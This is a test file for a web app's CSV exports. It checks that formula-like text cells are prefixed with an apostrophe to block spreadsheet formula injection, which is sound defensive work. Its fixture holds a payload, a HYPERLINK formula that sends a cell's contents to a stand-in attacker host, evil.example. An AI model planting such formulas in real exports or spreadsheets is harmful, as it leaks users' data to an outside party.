// SPEC §7 "Spreadsheet-safe CSV": in every CSV download a text cell that begins with = + - @, tab or
// carriage return is prefixed with ' (numbers the app writes stay numbers, negative ones too).
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { GET as agreementRoute } from "@/app/api/v1/projects/[id]/agreement/route";
import { GET as scorecardsRoute } from "@/app/api/v1/projects/[id]/annotators/route";
import { GET as judgesRoute } from "@/app/api/v1/projects/[id]/judges/route";
import { GET as leaderboardRoute } from "@/app/api/v1/projects/[id]/leaderboard/route";
import type { RouteHandler } from "./helpers/call-route";
import { gradedModelsFixture } from "./helpers/graded-models-fixture";

const MODELS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)", "+1+1", "-2+3"];
const RUNS = ["=1+2", "@run"];
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/;

const csvs: [string, RouteHandler][] = [
  ["leaderboard", leaderboardRoute],
  ["judges", judgesRoute],
  ["agreement", agreementRoute],
  ["scorecards", scorecardsRoute],
];

describe("CSV downloads", () => {
  it.each(csvs)("the %s CSV prefixes formula-like text cells with '", async (_, route) => {
    const { projectId, as } = await gradedModelsFixture({ models: MODELS, runs: RUNS });
    const res = await as(route, { id: String(projectId) }, { query: "?format=csv" });
    expect(res.status).toBe(200);
    const rows: string[][] = parse(res.text);
    const cells = rows.flat();
    const unsafe = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !NUMBER.test(c));
    expect(unsafe).toEqual([]);
  });

  it("keeps the names themselves, behind the prefix", async () => {
    const { projectId, as } = await gradedModelsFixture({ models: MODELS, runs: RUNS });
    const leaderboard = parse<{ model: string; run_name: string }>(
      (await as(leaderboardRoute, { id: String(projectId) }, { query: "?format=csv" })).text,
      { columns: true },
    );
    expect(new Set(leaderboard.map((r) => r.model))).toEqual(new Set(MODELS.map((m) => `'${m}`)));
    expect(new Set(leaderboard.map((r) => r.run_name))).toEqual(
      new Set(["", ...RUNS.map((r) => `'${r}`)]),
    );
    const judges = parse<{ run: string; value: string }>(
      (await as(judgesRoute, { id: String(projectId) }, { query: "?format=csv" })).text,
      { columns: true },
    );
    expect(new Set(judges.map((r) => r.run))).toEqual(new Set(RUNS.map((r) => `'${r}`)));
    expect(judges.every((r) => r.value === "" || NUMBER.test(r.value))).toBe(true);
  });
});
